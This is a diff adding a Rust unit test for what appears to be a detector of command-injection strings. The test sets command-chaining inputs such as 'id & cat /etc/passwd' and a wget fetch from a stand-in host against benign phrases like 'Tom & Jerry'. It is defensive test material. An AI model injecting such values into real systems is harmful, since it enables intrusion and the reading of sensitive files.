@@ -286,3 +286,45 @@ fn release_note_lines_opening_with_a_command_are_sentences() {
         ],
     );
 }
+
+#[test]
+fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
+    table(
+        &[
+            "127.0.0.1 & whoami",
+            "& whoami",
+            "x & ipconfig",
+            "8.8.8.8 &  systeminfo",
+            "a & uname",
+            "1 & tasklist",
+            "host & netstat",
+            "python & whoami",
+            "ruby &",
+            "php & /tmp/x",
+            "python -c 'import os' & python",
+            "id & cat /etc/passwd",
+            "bash & wget http://x.example/s.sh",
+            "ls & whoami",
+        ],
+        &[
+            "Tom & Jerry",
+            "Name & ID",
+            "Ruby & Python",
+            "PHP & Node",
+            "Python & Ruby developer",
+            "SSH & SFTP access",
+            "bash & zsh",
+            "the whoami & uname commands print who and where",
+            "Q & A",
+            "salt & pepper",
+            "R & D",
+            "Search & replace",
+            "cut & paste",
+            "Cut & Paste",
+            "Sort & filter",
+            "Find & replace",
+            "Date & Time",
+            "Copy & Paste",
+        ],
+    );
+}
